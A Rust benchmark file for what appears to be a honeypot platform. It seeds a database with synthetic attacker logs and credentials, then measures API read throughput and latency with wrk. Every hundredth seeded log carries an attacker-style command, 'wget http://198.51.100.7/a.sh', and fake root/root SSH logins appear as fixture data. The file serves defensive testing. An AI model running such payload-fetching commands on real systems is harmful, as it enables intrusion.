//! Reads of a large database under many users, with `wrk`.

use crate::figure::{Direction, Report};
use model::Micros;
use store::{At, AttackerRow, Batch, NewCredential, NewLog, Position, Store};
use tokio::process::Command;
use trials::world::World;

const LOGS: usize = 1_000_000;
const ATTACKERS: usize = 100_000;

pub(crate) async fn measure(report: &mut Report) {
    let home = tempfile::tempdir().unwrap();
    fill(&home).await;
    let world = World::up_in(home, &["--no-lab"], &[]).await;
    let reads: [(&str, &str, Option<f64>); 6] = [
        ("logs", "/logs", Some(5_000.0)),
        ("attackers", "/attackers", Some(5_000.0)),
        ("search", "/logs?search=wget", Some(500.0)),
        ("histogram", "/logs/histogram", None),
        ("credentials", "/credentials", None),
        ("stats", "/stats", None),
    ];
    for (name, path, target) in reads {
        let (rate, p99) = wrk(&world, path).await;
        let peer = match name {
            "logs" => Some("reference 112-164 requests/s (baseline, 50,000 logs)"),
            "attackers" => Some("reference 13-26 requests/s (baseline)"),
            "search" => Some("reference 28-45 requests/s (baseline)"),
            _ => None,
        };
        report.add(&format!("line.api_{name}_per_s"), &[rate], "requests/s at 500 connections", Direction::Higher, target, peer, "api");
        report.add(&format!("line.api_{name}_p99_ms"), &[p99], "ms at 500 connections", Direction::Lower, Some(50.0), None, "api");
    }
    world.stop().await;
}

async fn wrk(world: &World, path: &str) -> (f64, f64) {
    let out = Command::new("wrk")
        .args(["-t1", "-c500", "-d10s", "--latency", "-H", &format!("Authorization: Bearer {}", world.token())])
        .arg(format!("{}/api/v1{path}", world.url))
        .output()
        .await
        .expect("wrk is installed by scripts/setup test");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(!text.contains("Non-2xx"), "{path}: {text}");
    let after = |key: &str| text.lines().find_map(|l| l.trim().strip_prefix(key)).map(|v| v.trim().to_owned()).unwrap_or_else(|| panic!("{text}"));
    (after("Requests/sec:").parse().unwrap(), milliseconds(&after("99%")))
}

fn milliseconds(text: &str) -> f64 {
    let number = |unit: &str| text.strip_suffix(unit).and_then(|n| n.parse::<f64>().ok());
    number("us").map(|n| n / 1000.0).or_else(|| number("ms")).or_else(|| number("s").map(|n| n * 1000.0)).unwrap_or_else(|| panic!("{text}"))
}

async fn fill(home: &tempfile::TempDir) {
    let store = Store::open(&store::Config::Sqlite(home.path().join("decnet.db"))).await.unwrap();
    let ip = |n: usize| format!("10.{}.{}.{}", n / 65_536 % 256, n / 256 % 256, n % 256);
    let base = 1_790_000_000_000_000_i64;
    let mut from = Position::default();
    for start in (0..LOGS).step_by(5_000) {
        let to = Position { segment: 1, offset: (start + 5_000) as u64 };
        let mut batch = Batch { spool: "bench".into(), from, to, ..Batch::default() };
        for n in start..start + 5_000 {
            let at = Micros(base + i64::try_from(n).unwrap() * 100_000);
            let command = if n % 100 == 0 { "wget http://198.51.100.7/a.sh".to_owned() } else { format!("echo {n}") };
            batch.logs.push(NewLog {
                event_uuid: uuid(n),
                at,
                decky: format!("local:web-{:02}", n % 40),
                service: ["ssh", "http", "redis", "mysql"][n % 4].into(),
                event_type: "command".into(),
                attacker_ip: ip(n % ATTACKERS),
                src_port: Some(40_000),
                dst_port: Some(22),
                session_id: None,
                fields: serde_json::json!({ "command": command, "user": "root" }).to_string(),
                msg: command,
            });
            if n % 50 == 0 {
                batch.credentials.push(NewCredential {
                    at,
                    attacker_ip: ip(n % ATTACKERS),
                    decky_name: format!("local:web-{:02}", n % 40),
                    service: "ssh".into(),
                    principal: Some("root".into()),
                    secret_kind: "plaintext".into(),
                    secret_sha256: format!("{n:064x}"),
                    secret_b64: "cm9vdA==".into(),
                    secret_printable: "root".into(),
                    outcome: "failure".into(),
                    fields: "{}".into(),
                });
            }
        }
        store.record(&batch).await.unwrap();
        from = to;
    }
    let last = store.last_log_id().await.unwrap();
    for start in (0..ATTACKERS).step_by(2_000) {
        let rows: Vec<AttackerRow> = (start..start + 2_000)
            .map(|n| AttackerRow {
                uuid: uuid(n),
                ip: ip(n),
                first_seen: At(Micros(base + i64::try_from(n).unwrap())),
                last_seen: At(Micros(base + i64::try_from(n).unwrap() * 1_000)),
                event_count: i64::try_from(10 + n % 90).unwrap(),
                services: vec!["ssh".into(), "http".into()],
                service_count: 2,
                deckies: vec!["local:web-01".into(), "local:web-02".into()],
                decky_count: 2,
                is_traversal: true,
                ..AttackerRow::default()
            })
            .collect();
        store.save_attackers(&rows, ("profile_cursor", last)).await.unwrap();
    }
    while store.index_text(20_000).await.unwrap() > 0 {}
}

fn uuid(n: usize) -> String {
    format!("01990000-0000-7000-8000-{n:012x}")
}
